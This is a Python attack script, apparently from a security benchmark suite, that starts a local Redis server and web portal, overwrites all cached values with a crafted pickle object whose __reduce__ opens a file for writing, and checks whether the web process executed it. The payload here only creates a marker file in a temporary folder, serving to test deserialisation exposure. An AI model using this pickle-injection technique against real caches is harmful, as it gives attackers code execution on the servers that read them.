"""Somebody writes into Redis what would run where it is read: `python -m benchmarks.attacks.redis`."""

import pickle
import subprocess
import tempfile
import time
from pathlib import Path

import redis

from benchmarks.attacks import portal, tell
from benchmarks.cluster import programs
from benchmarks.servers import free_port
from benchmarks.visitor import Visitor


class Planted:
    """Makes a file where it is read by pickle."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[object, tuple[str, str]]:
        return open, (str(self.file), "w")


def main() -> None:
    port = free_port()
    command = [programs()["redis-server"], "--port", str(port), "--save", "", "--appendonly", "no"]
    server = subprocess.Popen(command, stdout=subprocess.DEVNULL)
    try:
        time.sleep(1)
        with portal(CACHE_URL=f"redis://127.0.0.1:{port}/0") as web, tempfile.TemporaryDirectory() as folder:
            _attack(redis.Redis(port=port), web, Path(folder) / "ran")
    finally:
        server.terminate()


def _attack(store: redis.Redis, web: int, file: Path) -> None:
    visitor = Visitor(web)
    statuses, kept = [visitor.request("GET", "/")[0]], 0
    for _i in range(3):
        for key in store.scan_iter():
            kept += 1
            store.set(key, pickle.dumps(Planted(file)), keepttl=True)
        statuses.append(visitor.request("GET", "/")[0])
    seen = f"{kept} kept values replaced; the code {'RAN' if file.exists() else 'did not run'}; pages: {statuses}"
    tell("a pickle in Redis' cache", "the code ran in the web process", seen)


if __name__ == "__main__":
    main()
